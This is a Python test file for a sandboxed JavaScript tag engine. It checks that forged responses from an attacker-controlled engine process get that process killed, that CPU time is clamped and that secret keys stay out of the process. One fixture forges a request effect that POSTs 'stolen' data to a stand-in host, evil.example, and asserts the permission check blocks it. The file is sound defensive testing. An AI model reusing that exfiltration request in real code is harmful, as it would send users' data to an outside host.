"""An engine process under an attacker's control cannot do anything forbidden."""

import asyncio
import os
import socket

import msgspec
import pytest
from template_stage import NOW, call, template

from fakes import ScriptedWeb
from twite.gateway.ports.transport import Response
from twite.machine.system import SystemClock
from twite.tags.container.parts import Container, ContainerTag
from twite.tags.engines.process.engine_line import PipeEnds
from twite.tags.engines.process.engine_process import QuickJsProcess
from twite.tags.engines.process.frames import EngineRequest, EngineResponse, FrameReader, framed
from twite.tags.google.requests import GoogleClient
from twite.tags.ports.engines import EngineLost
from twite.tags.ports.tags import ContainerConfig, TagRule
from twite.tags.run.outbound import RunContext
from twite.tags.run.payload import TagPayload
from twite.tags.run.tag_run import TagRun
from twite.tags.runtime.engine_pool import EnginePool, TemplateStorage
from twite.tags.template.permissions import Grant
from twite.tags.template.sandbox import RunLimits

TURN = '{"run":1,"outcome":"success"}'
LOG = '{"effect":"log","text":"it","own":true}'


class ForgedServer:
    """Starts no process: the test acts as the process, and sends arbitrary answers."""

    def __init__(self, *answers):
        self.answers = list(answers)
        self.killed = []
        self.requests = []
        self._ends = []

    def spawn(self, *, memory):
        del memory
        ours, its = socket.socketpair()
        its.settimeout(0)
        self._ends.append(its)
        loop = asyncio.get_running_loop()
        loop.add_reader(its, self._read, its, FrameReader(most=1 << 20))
        pid = loop.create_future()
        pid.set_result(1_000_000_000 + len(self._ends))
        reader = ours.detach()
        return PipeEnds(reader, os.dup(reader)), pid

    def _read(self, its, frames):
        data = its.recv(1 << 20)
        if not data:
            asyncio.get_running_loop().remove_reader(its)
            return
        for frame in frames.feed(data):
            request = msgspec.msgpack.decode(frame, type=EngineRequest)
            self.requests.append(request)
            if request.act in {2, 3} and self.answers:
                its.sendall(self.answers.pop(0))

    def kill(self, pid):
        self.killed.append(pid)

    def ended(self, _pid):
        ended = asyncio.get_running_loop().create_future()
        ended.set_result(-9)
        return ended

    def forget(self, pid):
        pass

    def stop(self):
        for end in self._ends:
            asyncio.get_running_loop().remove_reader(end)
            end.close()


def forged(**said):
    return framed(EngineResponse(**({"run": 1, "turn": TURN, "took": 0.001} | said)))


@pytest.mark.parametrize(
    "answer",
    [
        forged(run=2),
        forged(turn="{"),
        forged(turn='{"run":1,"effects":[{"effect":"no such"}]}'),
        forged(turn=f'{{"run":1,"effects":[{",".join([LOG] * 501)}]}}'),
        b"\xff\xff\xff\xff",
        b"\x00\x00\x00\x02\xc1\xc1",
        framed(EngineResponse(1, TURN, 0.0)) + b"\x00\x00\x00\x01\x00",
    ],
    ids=[
        "another run",
        "no JSON",
        "no effect",
        "too many effects",
        "too long",
        "no frame",
        "one more",
    ],
)
async def test_invalid_answer_ends_the_process_and_reaches_no_run(answer):
    server = ForgedServer(answer, forged(run=2))
    process = QuickJsProcess(server, limits=RunLimits(), keys={})

    try:
        first = await process.start(template(""), call())
    except EngineLost as lost:
        first = str(lost)
    second = await process.start(template(""), call())

    process.stop()
    server.stop()
    assert 1_000_000_001 in server.killed
    assert second.error is None
    if not isinstance(first, str):
        assert first.outcome == "success"  # its answer had already arrived
    else:
        assert first == "the engine process sent an invalid response, so Twite ended it"


@pytest.mark.parametrize("took", [-1.0, float("nan"), float("inf"), 1e300])
async def test_impossible_cpu_time_is_replaced_by_the_maximum(took):
    server = ForgedServer(forged(took=took))
    process = QuickJsProcess(server, limits=RunLimits(time=0.25), keys={})

    turn = await process.start(template(""), call())

    process.stop()
    server.stop()
    assert turn.took == 3.0


async def test_engine_process_gets_only_permitted_keys():
    server = ForgedServer(forged())
    process = QuickJsProcess(server, limits=RunLimits(), keys={"one": "secret-of-hmac"})

    await process.start(template("", grants=()), call())

    process.stop()
    server.stop()
    assert "secret-of-hmac" not in repr(server.requests)


class NotForX:
    async def take(self, _request, **_source):
        return None


class Seen:
    def __init__(self):
        self.lines = []

    def see(self, notice):
        self.lines.append(getattr(notice, "text", ""))


class ForgedEngines:
    def __init__(self, server):
        self._server = server

    def start(self):
        pass

    def process(self, limits):
        return QuickJsProcess(self._server, limits=limits, keys={})

    async def stop(self):
        self._server.stop()


REQUEST = '{"effect":"request","id":1,"url":"%s","method":"POST","body":"stolen"}'


@pytest.mark.parametrize(
    ("effect", "error", "asked"),
    [
        (REQUEST % "https://evil.example/in", "send_http does not allow", []),
        ('{"effect":"run_container","id":1,"event":{}}', "run_container does not allow", []),
        ('{"effect":"keep","key":"a","value":1}', "access_template_storage does not allow", []),
        (REQUEST % "https://vendor.example/in", None, ["https://vendor.example/in"]),
    ],
    ids=["another host", "a container", "storage", "allowed"],
)
async def test_effects_from_an_attackers_process_are_checked_for_permission(effect, error, asked):
    turn = f'{{"run":1,"waiting":[1],"effects":[{effect}]}}'
    server = ForgedServer(forged(turn=turn), forged())
    clock, seen = SystemClock(), Seen()
    web = ScriptedWeb([Response(status=200, headers={}, body=b"")])
    pool = EnginePool(ForgedEngines(server), elapsed=clock.elapsed)
    pool.start()
    grant = Grant(
        permission="send_http",
        parameters={"allowedUrls": "specific", "urls": ["https://vendor.example/*"]},
    )
    container = Container(
        tags=(ContainerTag(name="crm", template="main"),),
        templates={"main": template("data.gtmOnSuccess();", grants=[grant])},
    )
    rule = TagRule(name="crm")
    run = TagRun(
        RunContext(
            engine_pool=pool,
            web=web,
            google=GoogleClient(clock=clock),
            to_x=NotForX(),
            storage=TemplateStorage(),
            clock=clock,
            observer=seen,
        ),
        container_config=ContainerConfig(container=container, rules={"crm": rule}),
        rule=rule,
        payload=TagPayload(pixel="o8z6j", at=NOW, event={"event_name": "x"}),
        seed=7,
    )

    ran = await run.run()

    await pool.stop()
    assert [request.url for request in web.asked] == asked
    assert server.killed == ([] if error is None else [1_000_000_001])
    assert ran.succeeded if error is None else error in ran.error
